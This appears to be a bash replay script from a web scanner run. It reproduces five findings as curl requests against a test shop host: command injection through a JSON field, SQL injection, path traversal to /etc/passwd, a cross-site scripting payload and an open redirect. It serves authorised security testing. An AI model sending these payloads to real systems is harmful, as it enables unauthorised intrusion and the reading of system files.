#!/usr/bin/env bash
# TestRun Nov 23 14:02 UTC: 5 findings, each as the request that proved it.
#   bash FILE          list them
#   bash FILE 3        send number 3
#   bash FILE all      send all
# Send them only to an application that you may test. A secret that was taken out of this file is read from
# the environment, REDACTED-1 from FAST_SECRET_1.
set -uo pipefail

list() {
  :
  echo '   1  high    Command execution: POST /api/labels, POST_JSON_DOC_HASH_items_ARRAY_0_HASH_code_value'
  echo '   2  high    SQL injection: GET /search, GET_q_value'
  echo '   3  high    Path traversal: GET /manual, GET_name_value'
  echo '   4  medium  Cross-site scripting: POST /product/{}/review, POST_FORM_URLENCODED_name_value'
  echo '   5  low     Open redirect: POST /login, POST_FORM_URLENCODED_next_value'
}
finding_1() {
  curl -sS -i --path-as-is -g -X POST http://shop.test:5000/api/labels -H 'Host: shop.test:5000' -H 'User-Agent: python-requests/2.34.2' -H 'Accept: */*' -H 'Cookie: session='"${FAST_SECRET_1:?the secret REDACTED-1}"'' -H 'Content-Type: application/json' --data-raw '{"printer": "front", "items": [{"code": "KT-1;expr 30414 + 17", "count": 2}], "api_key": "'"${FAST_SECRET_6:?the secret REDACTED-6}"'"}'
}
finding_2() {
  curl -sS -i --path-as-is -g -X GET 'http://shop.test:5000/search?q=tea%27fast7c1&sort=price' -H 'Host: shop.test:5000' -H 'User-Agent: python-requests/2.34.2' -H 'Accept: */*' -H 'Cookie: session='"${FAST_SECRET_1:?the secret REDACTED-1}"''
}
finding_3() {
  curl -sS -i --path-as-is -g -X GET 'http://shop.test:5000/manual?name=..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd' -H 'Host: shop.test:5000' -H 'User-Agent: python-requests/2.34.2' -H 'Accept: */*' -H 'Cookie: session='"${FAST_SECRET_1:?the secret REDACTED-1}"'' -H 'Authorization: Bearer '"${FAST_SECRET_5:?the secret REDACTED-5}"''
}
finding_4() {
  curl -sS -i --path-as-is -g -X POST http://shop.test:5000/product/3/review -H 'Host: shop.test:5000' -H 'User-Agent: python-requests/2.34.2' -H 'Accept: */*' -H 'Cookie: session='"${FAST_SECRET_1:?the secret REDACTED-1}"'' -H 'Content-Type: application/x-www-form-urlencoded' --data-raw 'name=%3Cimg+src%3Dx+onerror%3Dalert%284711%29%3E&text=good&csrf_token='"${FAST_SECRET_2:?the secret REDACTED-2}"''
}
finding_5() {
  curl -sS -i --path-as-is -g -X POST http://shop.test:5000/login -H 'Host: shop.test:5000' -H 'User-Agent: python-requests/2.34.2' -H 'Accept: */*' -H 'Cookie: session='"${FAST_SECRET_1:?the secret REDACTED-1}"'' -H 'Content-Type: application/x-www-form-urlencoded' --data-raw 'user=alice&password='"${FAST_SECRET_3:?the secret REDACTED-3}"'&next=https%3A%2F%2Ff8a1.fast.test%2F'
}

case "${1:-list}" in
  list) list ;;
  all) for number in $(seq 1 5); do echo "== $number"; "finding_$number"; echo; done ;;
  *[!0-9]* | "") echo "usage: bash $0 [list | all | NUMBER]" >&2; exit 2 ;;
  *) "finding_$1" ;;
esac
